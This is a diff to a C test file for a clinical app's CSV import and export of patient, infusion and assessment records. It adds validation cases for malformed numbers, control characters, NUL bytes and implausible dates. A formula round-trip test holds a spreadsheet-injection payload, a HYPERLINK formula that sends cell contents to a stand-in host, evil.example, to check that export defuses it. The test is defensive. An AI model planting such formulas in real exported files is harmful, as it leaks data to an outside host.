@@ -515,6 +515,9 @@ typedef struct {
   guint n_problems;         /* 0: just this one */
 } BadRow;
 
+/* An infusion row between started_at and ready_at. */
+#define INFUSION_MIDDLE ",40,iv,ketamine,L1,induction,70.3,0.5,35.15,\"nausea,dissociation\",brief,benzodiazepine,60,"
+
 static const BadRow bad_rows[] = {
   { "bad-date", TRAJ_CSV_PATIENTS, "1975-07-08", "1975-02-30",
     "patients.csv:4:", "birth_date “1975-02-30” is not a date" },
@@ -551,15 +554,77 @@ static const BadRow bad_rows[] = {
     "vital_signs.csv:2:", "Blood pressure 80/120: the diastolic value (120) must be below the systolic (80)" },
   { "bp-gap", TRAJ_CSV_VITAL_SIGNS, ",0,120,80,72,98,14", ",0,300,20,72,98,14",
     "vital_signs.csv:2:", "Blood pressure 300/20: systolic and diastolic are more than 200 mmHg apart" },
-  { "infusion-before-birth", TRAJ_CSV_INFUSIONS, "2026-01-10T09:00:00Z", "1979-01-10T09:00:00Z",
+  { "infusion-before-birth", TRAJ_CSV_INFUSIONS, "2026-01-10T09:00:00Z" INFUSION_MIDDLE "2026-01-10T10:40:00Z",
+    "1979-01-10T09:00:00Z" INFUSION_MIDDLE "1979-01-10T10:40:00Z",
     "infusions.csv:2:", "The infusion is dated 10 Jan 1979, before the patient’s birth date (3 Feb 1980)." },
   { "assessment-before-birth", TRAJ_CSV_ASSESSMENTS, "2026-01-11T08:30:00Z", "1980-02-02T08:30:00Z",
     "assessments.csv:3:", "The scores are dated 2 Feb 1980, before the patient’s birth date (3 Feb 1980)." },
-  { "infusion-before-course", TRAJ_CSV_INFUSIONS, "2026-01-10T09:00:00Z", "2025-12-01T09:00:00Z",
+  { "infusion-before-course", TRAJ_CSV_INFUSIONS, "2026-01-10T09:00:00Z" INFUSION_MIDDLE "2026-01-10T10:40:00Z",
+    "2025-12-01T09:00:00Z" INFUSION_MIDDLE "2025-12-01T10:40:00Z",
     "infusions.csv:2:", "This infusion is dated 1 Dec 2025, 40 days before its course starts (10 Jan 2026). "
     "If the date is right, confirm it with date_confirmed “before_course”; otherwise correct started_at." },
   { "infusion-confirm-unknown", TRAJ_CSV_INFUSIONS, "Dr. A,,\r\n", "Dr. A,,yes\r\n",
-    "infusions.csv:2:", "date_confirmed “yes” holds an unknown code" },
+    "infusions.csv:2:", "date_confirmed “yes” is not a list of codes" },
+
+  /* Issue 16 §1: an import stores exactly what the file says or refuses the
+   * row. Each of these was accepted and stored changed (or was stored
+   * although no record can be like it) before. */
+  /* Negative numbers were read as "not recorded". */
+  { "negative-vitals", TRAJ_CSV_VITAL_SIGNS, ",0,120,80,72,98,14", ",0,-120,-80,72,98,14",
+    "vital_signs.csv:2:", "systolic “-120” is not a whole number (digits only, e.g. 72)", 2 },
+  { "negative-item", TRAJ_CSV_ASSESSMENTS, ",,,,1,1,,,", ",,,,1,-1,,,",
+    "assessments.csv:3:", "item_2 “-1” is not a whole number" },
+  { "negative-total", TRAJ_CSV_ASSESSMENTS, ",true,15,", ",true,-5,",
+    "assessments.csv:2:", "total “-5” is not a whole number" },
+  /* Lenient parsing. */
+  { "hex-weight", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ",0x50,0.5,40,",
+    "infusions.csv:2:", "weight_kg “0x50” is not a decimal number (digits, optionally “.” and up to 6 more, e.g. 72.5)" },
+  { "space-weight", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ", 70.3,0.5,35.15,",
+    "infusions.csv:2:", "weight_kg “ 70.3” is not a decimal number" },
+  { "plus-duration", TRAJ_CSV_INFUSIONS, "Z,40,iv,", "Z,+40,iv,",
+    "infusions.csv:2:", "duration_min “+40” is not a whole number" },
+  { "exponent-dose", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ",70.3,5e-1,35.15,",
+    "infusions.csv:2:", "dose_mg_per_kg “5e-1” is not a decimal number" },
+  { "leading-zero", TRAJ_CSV_COURSES, ",6,2026-01-10,", ",06,2026-01-10,",
+    "courses.csv:2:", "induction_length “06” is not a whole number" },
+  { "capital-code", TRAJ_CSV_PATIENTS, ",female,", ",Female,",
+    "patients.csv:2:", "unknown sex “Female” (one of: unknown, female, male, other)" },
+  { "scale-spelling", TRAJ_CSV_ASSESSMENTS, ",gad7,", ",gad\t\t7,",
+    "assessments.csv:3:", "unknown scale “gad\\x09\\x097” (one of: phq9, gad7, pain_nrs, pcl5, madrs)" },
+  { "complete-1", TRAJ_CSV_ASSESSMENTS, ",true,15,", ",1,15,",
+    "assessments.csv:2:", "complete “1” is not true or false" },
+  { "time-without-zone", TRAJ_CSV_INFUSIONS, ",2026-01-10T09:00:00Z,", ",2026-01-10T09:00:00,",
+    "infusions.csv:2:", "started_at “2026-01-10T09:00:00” is not a date and time (YYYY-MM-DDTHH:MM:SSZ" },
+  { "fractional-seconds", TRAJ_CSV_INFUSIONS, ",2026-01-10T09:00:00Z,", ",2026-01-10T09:00:00.5Z,",
+    "infusions.csv:2:", "started_at “2026-01-10T09:00:00.5Z” is not a date and time" },
+  { "epoch-is-not-none", TRAJ_CSV_INFUSIONS, ",2026-01-10T10:40:00Z,", ",1970-01-01T00:00:00Z,",
+    "infusions.csv:2:", "ready_at “1970-01-01T00:00:00Z”: a date before 1970 is not plausible." },
+  { "epoch-created", TRAJ_CSV_PATIENTS, ",2026-01-05T09:00:00Z,", ",1970-01-01T00:00:00Z,",
+    "patients.csv:2:", "created_at “1970-01-01T00:00:00Z”: a date before 1970 is not plausible." },
+  { "name-trimmed", TRAJ_CSV_PATIENTS, ",Ben Bianchi,", ", Ben Bianchi ,",
+    "patients.csv:4:", "name “ Ben Bianchi ” starts or ends with a space" },
+  /* Control characters. */
+  { "unit-separator", TRAJ_CSV_PATIENTS, ",chronic_pain,,", ",chronic_pain,a\x1f" "b,",
+    "patients.csv:4:", "Notes: the control character U+001F cannot be stored." },
+  { "escape", TRAJ_CSV_INFUSIONS, ",Dr. A,", ",Dr.\x1b[31mA,",
+    "infusions.csv:2:", "Clinician: the control character U+001B cannot be stored." },
+  { "bell-in-name", TRAJ_CSV_PATIENTS, ",Ben Bianchi,", ",Ben\aBianchi,",
+    "patients.csv:4:", "Name: the control character U+0007 cannot be stored." },
+  /* Implausible values. */
+  { "year-0001", TRAJ_CSV_INFUSIONS, ",2026-01-10T09:00:00Z,", ",0001-01-10T09:00:00Z,",
+    "infusions.csv:2:", "started_at “0001-01-10T09:00:00Z”: a date before 1970 is not plausible." },
+  { "ready-9999", TRAJ_CSV_INFUSIONS, ",2026-01-10T10:40:00Z,", ",9999-01-10T10:40:00Z,",
+    "infusions.csv:2:", "“Ready to leave” must be between the start" },
+  { "ready-before-start", TRAJ_CSV_INFUSIONS, ",2026-01-10T10:40:00Z,", ",2026-01-10T08:40:00Z,",
+    "infusions.csv:2:", "“Ready to leave” must be between the start" },
+  { "course-end-9999", TRAJ_CSV_COURSES, ",2026-01-10,,induction,", ",2026-01-10,9999-12-31,ended,",
+    "courses.csv:2:", "The course ends more than a year from now" },
+  { "updated-before-created", TRAJ_CSV_PATIENTS, "2026-01-05T09:00:00Z,2026-01-06T10:00:00Z", "2026-01-05T09:00:00Z,2026-01-04T10:00:00Z",
+    "patients.csv:2:", "The patient was last changed before being created" },
+  { "free-text-decision", TRAJ_CSV_FLAG_DECISIONS, ",acknowledged,", ",ignored it,",
+    "flag_decisions.csv:2:", "A safety finding is decided with one of: acknowledged." },
+  { "total-mg-disagrees", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ",70.3,0.5,350,",
+    "infusions.csv:2:", "The total dose of 350 mg does not match 70.3 kg × 0.5 mg/kg = 35.15 mg." },
 };
 
 static void
@@ -655,6 +720,8 @@ test_plausible_import (Fixture *fx, gconstpointer data)
     g_autofree char *t = read_file (path);
     GString *g = g_string_new (t);
     g_assert_cmpuint (g_string_replace (g, "Dr. A,,\r\n", "Dr. A,,before_course\r\n", 1), ==, 1);
+    /* Ready to leave on the same day as the (moved) start. */
+    g_assert_cmpuint (g_string_replace (g, ",2026-01-10T10:40:00Z,", ",2025-12-01T10:40:00Z,", 1), ==, 1);
     write_file (path, g->str);
     g_string_free (g, TRUE);
   }
@@ -670,6 +737,7 @@ test_plausible_import (Fixture *fx, gconstpointer data)
     g_assert_false (traj_csv_import (wrong, dir, report, NULL, NULL, NULL, &error));
     g_clear_error (&error);
     first = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
+    g_test_message ("%s", first);
     g_assert_true (g_str_has_prefix (first, "infusions.csv:2: This infusion is dated 1 Dec 2025, 40 days before"));
     g_clear_pointer (&first, g_free);
     g_assert_cmpuint (g_string_replace (g, ",near_infusion\r\n", ",before_course\r\n", 1), ==, 1);
@@ -736,6 +804,134 @@ test_plausible_import (Fixture *fx, gconstpointer data)
       g_assert_cmpint (traj_store_count (single, TRAJ_KIND_INFUSION, NULL), ==, 1);
     }
   }
+}
+
+/* A NUL byte used to end a field early: "Ben\0Bianchi" was stored as
+ * "Ben", a uid cut short named another record, "6\0\0" read as 6. */
+static void
+test_nul_bytes (Fixture *fx, gconstpointer data)
+{
+  static const struct {
+    TrajCsvFile file;
+    const char *from;
+    const char *to;           /* '#' stands for a NUL byte */
+    const char *where;
+  } cases[] = {
+    { TRAJ_CSV_PATIENTS, ",Ben Bianchi,", ",Ben#Bianchi,", "patients.csv:4:" },
+    { TRAJ_CSV_PATIENTS, P2 ",M-2", "22222222#-2222-4222-8222-222222222222,M-2", "patients.csv:4:" },
+    { TRAJ_CSV_COURSES, ",6,2026-01-10,", ",6##,2026-01-10,", "courses.csv:2:" },
+    { TRAJ_CSV_FLAG_DECISIONS, ",Talked,", ",\"Tal#ked\",", "flag_decisions.csv:2:" },
+  };
+
+  for (guint k = 0; k < G_N_ELEMENTS (cases); k++)
+    {
+      g_autofree char *name = g_strdup_printf ("nul-%u", k);
+      g_autofree char *db = g_strdup_printf ("nul-%u.db", k);
+      g_autoptr(TrajStore) store = open_store (fx, db);
+      g_autofree char *dir = path_in (fx, name);
+      g_autofree char *path = NULL;
+      g_autoptr(GString) text = g_string_new (small_files[cases[k].file]);
+      g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
+      g_autofree char *first = NULL;
+      GError *error = NULL;
+
+      write_small (dir, 0, NULL, NULL);
+      g_assert_cmpuint (g_string_replace (text, cases[k].from, cases[k].to, 1), ==, 1);
+      for (gsize b = 0; b < text->len; b++)
+        if (text->str[b] == '#')
+          text->str[b] = '\0';
+      path = g_build_filename (dir, traj_csv_file_name (cases[k].file), NULL);
+      g_assert_true (g_file_set_contents (path, text->str, (gssize) text->len, &error));
+      g_assert_no_error (error);
+
+      g_assert_false (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
+      g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
+      g_clear_error (&error);
+      first = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
+      g_test_message ("%s", first);
+      g_assert_true (g_str_has_prefix (first, cases[k].where));
+      g_assert_nonnull (strstr (first, "NUL byte (0x00)"));
+      g_assert_cmpint (traj_store_count (store, TRAJ_KIND_PATIENT, NULL), ==, 0);
+    }
+}
+
+/* The forms docs/csv-format.md allows besides what export writes, each
+ * stored as the value the file states. */
+static void
+test_documented_forms (Fixture *fx, gconstpointer data)
+{
+  g_autoptr(TrajStore) store = open_store (fx, "forms.db");
+  g_autofree char *dir = path_in (fx, "forms");
+  g_autofree char *infusions = NULL;
+  g_autoptr(GString) text = g_string_new (small_files[TRAJ_CSV_INFUSIONS]);
+  g_autoptr(TrajPatientRecords) r = NULL;
+  g_autoptr(TrajPatient) p = NULL;
+  const TrajInfusion *i;
+  GError *error = NULL;
+
+  write_small (dir, 0, NULL, NULL);
+  /* An offset instead of Z, trailing zeros, codes in another order. */
+  g_assert_cmpuint (g_string_replace (text, ",2026-01-10T09:00:00Z,", ",2026-01-10T10:00:00+01:00,", 1), ==, 1);
+  g_assert_cmpuint (g_string_replace (text, ",70.3,0.5,35.15,", ",70.30,0.500,35.15,", 1), ==, 1);
+  g_assert_cmpuint (g_string_replace (text, "\"nausea,dissociation\"", "\"dissociation,nausea\"", 1), ==, 1);
+  infusions = g_build_filename (dir, "infusions.csv", NULL);
+  write_file (infusions, text->str);
+
+  g_assert_true (traj_csv_import (store, dir, NULL, NULL, NULL, NULL, &error));
+  g_assert_no_error (error);
+  p = traj_store_find_patient_by_mrn (store, "M-1", &error);
+  g_assert_no_error (error);
+  r = traj_store_load_patient_records (store, p->id, &error);
+  g_assert_no_error (error);
+  i = g_ptr_array_index (r->infusions, 0);
+  g_assert_cmpint (i->started_at, ==, traj_time_from_iso ("2026-01-10T09:00:00Z", NULL));
+  g_assert_cmpfloat (i->weight_kg, ==, 70.3);
+  g_assert_cmpfloat (i->dose_mg_per_kg, ==, 0.5);
+  g_assert_cmpuint (i->side_effects, ==, TRAJ_SIDE_NAUSEA | TRAJ_SIDE_DISSOCIATION);
+}
+
+/* Text a spreadsheet would run as a formula is written with one apostrophe
+ * before it, and import drops it again: the round trip stays byte for byte,
+ * and the store holds what was typed. */
+static void
+test_formula_round_trip (Fixture *fx, gconstpointer data)
+{
+  g_autoptr(TrajStore) store = open_store (fx, "formula.db");
+  g_autoptr(TrajStore) again_store = open_store (fx, "formula-again.db");
+  g_autoptr(TrajPatient) p = traj_patient_new ();
+  g_autoptr(TrajPatient) back = NULL;
+  g_autofree char *first = path_in (fx, "formula-1");
+  g_autofree char *second = path_in (fx, "formula-2");
+  g_autofree char *patients_csv = NULL, *text = NULL;
+  GError *error = NULL;
+
+  p->mrn = g_strdup ("-42");
+  p->name = g_strdup ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+  p->notes = g_strdup ("'quoted' on purpose");
+  p->birth_day = traj_day_from_ymd (1980, 2, 3);
+  p->sex = TRAJ_SEX_FEMALE;
+  p->indication = TRAJ_INDICATION_DEPRESSION;
+  g_assert_true (traj_store_insert_patient (store, p, &error));
+  g_assert_no_error (error);
+
+  g_assert_true (traj_csv_export (store, first, NULL, NULL, NULL, NULL, &error));
+  g_assert_no_error (error);
+  patients_csv = g_build_filename (first, "patients.csv", NULL);
+  text = read_file (patients_csv);
+  g_assert_nonnull (strstr (text, ",'-42,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",1980-02-03,"));
+  g_assert_nonnull (strstr (text, ",depression,''quoted' on purpose,"));
+  g_assert_null (strstr (text, ",=HYPERLINK"));
+  g_assert_null (strstr (text, "\"=HYPERLINK"));
+
+  g_assert_true (traj_csv_import (again_store, first, NULL, NULL, NULL, NULL, &error));
+  g_assert_no_error (error);
+  back = traj_store_find_patient_by_mrn (again_store, "-42", &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (back->name, ==, p->name);
+  g_assert_cmpstr (back->notes, ==, p->notes);
+  g_assert_true (traj_csv_export (again_store, second, NULL, NULL, NULL, NULL, &error));
+  g_assert_no_error (error);
+  assert_same_files (first, second);
 }
 
 static gboolean
@@ -1089,6 +1285,9 @@ main (int argc, char **argv)
       g_test_add (name, Fixture, &bad_rows[k], fixture_setup, test_bad_row, fixture_teardown);
     }
   g_test_add ("/exchange/csv/many-bad-rows", Fixture, NULL, fixture_setup, test_many_bad_rows, fixture_teardown);
+  g_test_add ("/exchange/csv/nul-bytes", Fixture, NULL, fixture_setup, test_nul_bytes, fixture_teardown);
+  g_test_add ("/exchange/csv/documented-forms", Fixture, NULL, fixture_setup, test_documented_forms, fixture_teardown);
+  g_test_add ("/exchange/csv/formula-round-trip", Fixture, NULL, fixture_setup, test_formula_round_trip, fixture_teardown);
   g_test_add ("/exchange/csv/cancel", Fixture, NULL, fixture_setup, test_cancel, fixture_teardown);
   g_test_add ("/exchange/csv/plausible-dates", Fixture, NULL, fixture_setup, test_plausible_import, fixture_teardown);
   g_test_add_func ("/exchange/fhir/codes", test_codes);
